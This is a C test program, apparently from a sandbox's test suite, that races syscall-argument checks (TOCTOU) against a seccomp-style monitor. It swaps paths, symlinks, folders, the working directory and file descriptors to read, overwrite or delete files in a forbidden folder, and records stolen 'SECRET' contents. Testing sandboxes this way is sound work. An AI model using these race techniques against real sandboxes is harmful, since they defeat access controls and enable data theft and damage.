// SPDX-License-Identifier: GPL-2.0-or-later
// What a call means changes between the moment it is judged and the moment the kernel acts.
// argv: what changes, what is done, a folder that may not be touched, a folder to work in, attempts.
// Prints how many attempts were made and how many came out. What counts is what became of the
// forbidden folder, and a file `won` in the other one with what was read there.
//
// What changes:  memory     a thread rewrites the path
//                shared     another process rewrites it, in a shared mapping
//                link       another process points a symlink elsewhere
//                folder     another process exchanges a folder on the way with a symlink
//                cwd        a thread changes the directory
//                number     a thread puts another file behind the descriptor
// With `-filter` after it the program has installed a seccomp filter of its own before, with
// `-exec` it has executed itself after that, too.
#define _GNU_SOURCE
#include "attack.h"
#include <fcntl.h>
#include <limits.h>
#include <linux/filter.h>
#include <linux/fs.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <utime.h>

static const char *forbidden, *work;
static char *path;  // what the call names
static char good[PATH_MAX], evil[PATH_MAX], fine[PATH_MAX - 64];
static volatile int stop;
static volatile int guess = -1;
static int number = 100, good_fd, evil_fd;
static int attempts, made, came;

static void pause_a_little(void)
{
	for (volatile int i = 0; i < 200; i++)
		;
}

// --- what changes -----------------------------------------------------------------------------

static void flip_memory(void)
{
	while (!stop) {
		strcpy(path, evil), pause_a_little();
		strcpy(path, good), pause_a_little();
	}
}

static void flip_link(void)
{
	char link[PATH_MAX], next[PATH_MAX];
	snprintf(link, sizeof link, "%s/way", work), snprintf(next, sizeof next, "%s/next", work);
	while (1) {
		if (symlink(forbidden, next) == 0)
			rename(next, link);
		pause_a_little();
		if (symlink(fine, next) == 0)
			rename(next, link);
		pause_a_little();
	}
}

static void flip_folder(void)
{
	char way[PATH_MAX], other[PATH_MAX];
	snprintf(way, sizeof way, "%s/way", work), snprintf(other, sizeof other, "%s/other", work);
	while (1) {
		syscall(SYS_renameat2, AT_FDCWD, way, AT_FDCWD, other, RENAME_EXCHANGE);
		pause_a_little();
	}
}

static void flip_cwd(void)
{
	while (!stop) {
		if (chdir(forbidden))
			perror(forbidden);
		pause_a_little();
		if (chdir(fine))
			perror(fine);
		pause_a_little();
	}
}

static void flip_number(void)
{
	while (!stop) {
		dup2(evil_fd, number), pause_a_little();
		dup2(good_fd, number), pause_a_little();
	}
}

static void *thread_of(void *flip)
{
	((void (*)(void))flip)();
	return NULL;
}

// Reads from whatever the main thread's open is about to give, before anybody looks at it.
static void look(int fd)
{
	char text[64] = "";
	ssize_t length = pread(fd, text, sizeof text, 0);
	if (length >= 6 && !memcmp(text, "SECRET", 6)) {
		char won[PATH_MAX];
		snprintf(won, sizeof won, "%s/won", work);
		int out = open(won, O_WRONLY | O_CREAT | O_APPEND, 0600);
		if (write(out, text, length) < 0)
			perror(won);
		close(out);
	}
}

static int out_fd;  // open already, so that no call of the spy's has to be judged

static void *spy(void *unused)
{
	char text[64];
	while (!stop) {
		int fd = guess;
		if (fd < 0)
			continue;
		ssize_t length = pread(fd, text, sizeof text, 0);
		if (length >= 6 && !memcmp(text, "SECRET", 6) && write(out_fd, text, length) < 0)
			perror("won");
	}
	return unused;
}

// --- what is done -----------------------------------------------------------------------------

static int do_read(void)
{
	int fd = open(path, O_RDONLY);
	if (fd >= 0)
		look(fd);
	return fd;
}
static int do_spy(void) { return open(path, O_RDONLY); }
static int do_write(void)
{
	int fd = open(path, O_WRONLY);
	return fd < 0 || write(fd, "DAMAGE", 6) < 0 ? -1 : fd;
}
static int do_cut(void) { return open(path, O_WRONLY | O_TRUNC); }
static int do_append(void)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0600);
	return fd < 0 || write(fd, "DAMAGE", 6) < 0 ? -1 : fd;
}
static int do_create(void)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
	if (fd >= 0)
		unlink(path);
	return fd;
}
static int do_creat(void) { return creat(path, 0600); }
static int do_truncate(void) { return truncate(path, 1); }
static int do_chmod(void) { return chmod(path, 0777); }
static int do_unlink(void)
{
	int result = unlink(path);
	close(open(good, O_WRONLY | O_CREAT, 0600));
	return result;
}
static int do_mkdir(void)
{
	int result = mkdir(path, 0700);
	rmdir(path);
	return result;
}
static int do_rename(void)
{
	char to[PATH_MAX];
	snprintf(to, sizeof to, "%s/stolen", work);
	int result = rename(path, to);
	if (result == 0) {
		int fd = open(to, O_RDONLY);
		look(fd), close(fd);
	}
	close(open(good, O_WRONLY | O_CREAT, 0600));
	return result;
}
static int do_link(void)
{
	char to[PATH_MAX];
	snprintf(to, sizeof to, "%s/stolen", work);
	unlink(to);
	int result = link(path, to);
	if (result == 0) {
		int fd = open(to, O_RDONLY);
		look(fd), close(fd);
	}
	return result;
}
static int do_xattr(void)
{
	char text[64] = "";
	ssize_t length = syscall(SYS_getxattr, path, "user.secret", text, sizeof text);
	if (length >= 6 && !memcmp(text, "SECRET", 6) && write(out_fd, text, length) < 0)
		perror("won");
	return length < 0 ? -1 : 0;
}
static int do_fchmod(void) { return fchmod(number, 0777); }
static int do_ftimes(void) { return syscall(SYS_utimensat, number, NULL, (struct timespec[]){{1, 1}, {1, 1}}, 0); }
static int do_fchown(void) { return fchown(number, getuid(), getgid()); }
static int do_reopen(void)
{
	char magic[64];
	snprintf(magic, sizeof magic, "/proc/self/fd/%d", number);
	int fd = open(magic, O_RDONLY);
	if (fd >= 0)
		look(fd);
	return fd;
}
static int do_respy(void)
{
	char magic[64];
	snprintf(magic, sizeof magic, "/proc/self/fd/%d", number);
	return open(magic, O_RDONLY);
}
static int do_rewrite(void)
{
	char magic[64];
	snprintf(magic, sizeof magic, "/proc/self/fd/%d", number);
	return open(magic, O_WRONLY | O_TRUNC);
}
static int do_at(void)
{
	int fd = openat(number, "file", O_RDONLY);
	if (fd >= 0)
		look(fd);
	return fd;
}
static int do_unlinkat(void)
{
	int result = unlinkat(number, "file", 0);
	close(open(good, O_WRONLY | O_CREAT, 0600));
	return result;
}
static int do_createat(void)
{
	int fd = openat(number, "new", O_WRONLY | O_CREAT | O_EXCL, 0600);
	if (fd >= 0)
		unlinkat(number, "new", 0);
	return fd;
}

#define DEED(name, file) {#name, do_##name, file}
static const struct { const char *name; int (*act)(void); const char *file; } deeds[] = {
	DEED(read, "file"), DEED(spy, "file"), DEED(write, "file"), DEED(cut, "file"),
	DEED(append, "new"), DEED(create, "new"), DEED(creat, "file"), DEED(truncate, "file"),
	DEED(chmod, "file"), DEED(unlink, "file"), DEED(mkdir, "new"), DEED(rename, "file"),
	DEED(link, "file"), DEED(xattr, "file"), DEED(fchmod, "file"), DEED(ftimes, "file"),
	DEED(fchown, "file"), DEED(reopen, "file"), DEED(respy, "file"), DEED(rewrite, "file"),
	DEED(at, ""), DEED(unlinkat, ""), DEED(createat, ""),
};

static void own_filter(void)
{
	struct sock_filter code[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
	struct sock_fprog program = {1, code};
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program))
		perror("filter"), exit(UNAVAILABLE);
}

int main(int argc, char **argv)
{
	pthread_t thread, spying;
	pid_t other = 0;
	const char *what, *file = "";
	int (*act)(void) = NULL;
	int spies;

	if (argc < 6)
		return 9;
	what = argv[1], forbidden = argv[3], work = argv[4], attempts = atoi(argv[5]);
	if (strstr(what, "-filter"))
		own_filter();
	if (strstr(what, "-exec")) {
		own_filter();
		*strstr(what, "-exec") = 0;
		execv("/proc/self/exe", argv);
		return 9;
	}
	for (unsigned i = 0; i < sizeof deeds / sizeof *deeds; i++)
		if (!strcmp(deeds[i].name, argv[2]))
			act = deeds[i].act, file = deeds[i].file;
	if (!act)
		return 9;
	spies = strstr(argv[2], "spy") != NULL;
	snprintf(fine, sizeof fine, "%s/fine", work);
	snprintf(good, sizeof good, "%s/%s", fine, file);
	snprintf(evil, sizeof evil, "%s/%s", forbidden, file);
	int kind = strncmp(what, "shared", 6) ? MAP_PRIVATE : MAP_SHARED;
	path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, kind | MAP_ANONYMOUS, -1, 0);
	snprintf(path, PATH_MAX, "%s/way/%s", work, file);
	char won[PATH_MAX];
	snprintf(won, sizeof won, "%s/won", work);
	out_fd = open(won, O_WRONLY | O_CREAT | O_APPEND, 0600);
	int access = strstr(argv[2], "re") == argv[2] ? O_PATH : *file ? O_RDONLY : O_PATH;
	if (!strncmp(what, "number", 6)) {
		good_fd = open(good, access), evil_fd = open(evil, access);
		dup2(good_fd, number);
	}
	guess = open("/dev/null", O_RDONLY);  // the number that the next open will give
	close(guess);
	if (!spies)
		guess = -1;

	void (*flip)(void) = !strncmp(what, "memory", 6) || !strncmp(what, "shared", 6) ? flip_memory
			     : !strncmp(what, "cwd", 3)	  ? flip_cwd
			     : !strncmp(what, "number", 6) ? flip_number
			     : !strncmp(what, "link", 4)   ? flip_link
							   : flip_folder;
	if (flip == flip_memory)
		strcpy(path, good);
	if (flip == flip_cwd)
		snprintf(path, PATH_MAX, "%s", file);
	if (!strncmp(what, "shared", 6) || flip == flip_link || flip == flip_folder) {
		if ((other = fork()) == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			flip();
		}
	} else {
		pthread_create(&thread, NULL, thread_of, (void *)flip);
	}
	if (spies)
		pthread_create(&spying, NULL, spy, NULL);
	for (; made < attempts; made++) {
		int result = act();
		came += result >= 0;
		if (result > 2 && result != number)
			close(result);
	}
	printf("%d attempts, %d came out\n", made, came);
	fflush(stdout);
	stop = 1;
	if (other)
		kill(other, SIGKILL), waitpid(other, NULL, 0);
	return 0;
}
